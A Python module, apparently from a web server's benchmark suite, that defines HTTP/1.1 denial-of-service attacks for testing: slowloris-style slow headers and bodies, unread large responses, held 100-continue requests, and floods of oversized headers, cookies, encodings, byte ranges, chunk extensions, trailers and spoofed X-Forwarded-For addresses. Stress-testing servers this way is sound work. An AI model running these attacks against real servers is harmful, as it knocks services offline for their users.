"""Attacks over HTTP/1.1."""

from __future__ import annotations

import asyncio
import contextlib
import functools
import itertools
from typing import TYPE_CHECKING, Final

from benchmarks.attacks.attack import Attack, Ports
from benchmarks.attacks.pressure import connect, flood, hold, repeated

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

__all__ = ["HTTP1_ATTACKS"]

GET: Final = b"GET / HTTP/1.1\r\nHost: x\r\n"
LARGE: Final = b"GET /large HTTP/1.1\r\nHost: x\r\n\r\n"
POST: Final = b"POST / HTTP/1.1\r\nHost: x\r\n"
CHUNKED: Final = POST + b"Transfer-Encoding: chunked\r\n\r\n"
MANY: Final = 50
"""Requests of one write."""
WRITES: Final = 64
"""Those that differ."""
LIMITED: Final = (
    *("--rate-limit", "1/min", "--rate-limit-burst", "1000000"),
    *("--proxy-headers", "--forwarded-allow-ips", "127.0.0.1"),
)
"""Every client that asks once has a place in the table for a minute, and nobody is refused."""


# -- slow -----------------------------------------------------------------------------------------------------------


async def slow_heads(ports: Ports) -> None:
    """A line of a head every half second, which never ends."""
    await hold(ports.clear, GET, b"X-a: b\r\n")


async def slow_bodies(ports: Ports) -> None:
    """A byte of a body every half second."""
    await hold(ports.clear, POST + b"Content-Length: 1000000\r\n\r\n", b"x")


async def slow_reads(ports: Ports) -> None:
    """A large answer is asked for and not read."""
    await hold(ports.clear, LARGE, b"", count=200, receive_bytes=4096)


async def slow_reads_begin(ports: Ports) -> None:
    """The same by ever new clients, two hundred a second: each costs most while it begins."""

    async def one() -> None:
        while True:
            with contextlib.suppress(OSError):
                reader, writer = await connect(ports.clear, 4096)
                try:
                    reader._transport.pause_reading()  # type: ignore[attr-defined]
                    writer.write(LARGE)
                    await asyncio.sleep(0.2)
                finally:
                    writer.transport.abort()

    await asyncio.gather(*[one() for _ in range(40)])


async def held_continue(ports: Ports) -> None:
    """A body is announced, the server says 100 (Continue), and nothing comes (RFC 9110, 10.1.1)."""
    await hold(ports.clear, POST + b"Content-Length: 1000000\r\nExpect: 100-continue\r\n\r\n", b"")


# -- floods ---------------------------------------------------------------------------------------------------------


def requests(head: Callable[[int], bytes], many: int = MANY) -> Callable[[], Iterator[bytes]]:
    """Heads that differ, each by its number, so many at once. All are made before: the server is to be the slower."""

    @functools.cache
    def writes() -> list[bytes]:
        return [
            b"".join([head(number) for number in range(start, start + many)]) for start in range(0, WRITES * many, many)
        ]

    def wire() -> Iterator[bytes]:
        return itertools.cycle(writes())

    return wire


def large_head(number: int) -> bytes:
    return GET + b"".join(b"X-%d-%d: %s\r\n" % (number, line, b"v" * 600) for line in range(90)) + b"\r\n"


def cookies(number: int) -> bytes:
    """A hundred of them, in one field, and another one in each request."""
    return GET + b"Cookie: " + b"; ".join(b"c%d=%d" % (one, number) for one in range(100)) + b"\r\n\r\n"


def codings(number: int) -> bytes:
    """16 KB of codings with weights, each request with others."""
    return GET + b"Accept-Encoding: " + b",".join(b"x%d%d;q=0.5" % (number, one) for one in range(1000)) + b"\r\n\r\n"


def ranges(number: int) -> bytes:
    """As many as fit into a field, none next to another (RFC 9110, 17.15)."""
    wanted = b",".join(b"%d-%d" % (2 * one + number % 2, 2 * one + number % 2) for one in range(1200))
    return b"GET /files/file HTTP/1.1\r\nHost: x\r\nRange: bytes=" + wanted + b"\r\n\r\n"


def from_elsewhere(number: int) -> bytes:
    """From another network of IPv6, as a proxy says that is trusted."""
    address = b"2001:db8:%x:%x::1" % (number >> 16 & 0xFFFF, number & 0xFFFF)
    return GET + b"X-Forwarded-For: %s\r\n\r\n" % address


def trailers() -> Iterator[bytes]:
    """Bodies of nothing, and 15 KB of fields behind each."""
    line = b"".join(b"X-%d: %s\r\n" % (number, b"v" * 150) for number in range(90))
    return itertools.repeat((CHUNKED + b"0\r\n" + line + b"\r\n") * 4)


def http1(wire: Callable[[], Iterator[bytes]], *options: str, read: bool = True) -> Attack:
    async def run(ports: Ports) -> None:
        await flood(ports.clear, wire, read=read)

    return Attack(run=run, options=options)


HTTP1_ATTACKS: Final = {
    "slow heads": Attack(run=slow_heads),
    "slow bodies": Attack(run=slow_bodies),
    "slow reads": Attack(run=slow_reads),
    "slow reads that begin": Attack(run=slow_reads_begin),
    "Expect held": Attack(run=held_continue),
    "heads of 60 KB": http1(requests(large_head, 1)),
    "endless pipeline": http1(repeated(GET + b"\r\n"), read=False),
    "chunks of a byte": http1(repeated(b"1\r\nx\r\n", CHUNKED)),
    "chunk extensions": http1(repeated(b"1;x=y\r\nx\r\n", CHUNKED)),
    "chunk extensions and data": http1(repeated(b"4000;x=" + b"y" * 4000 + b"\r\n" + bytes(0x4000) + b"\r\n", CHUNKED)),
    "trailers": http1(trailers),
    "100 cookies": http1(requests(cookies)),
    "many codings": http1(requests(codings, 4), "--compress"),
    "many ranges": http1(requests(ranges, 4), "--static", "/files={folder}"),
    "rate-limit keys": http1(requests(from_elsewhere, 500), *LIMITED),
}
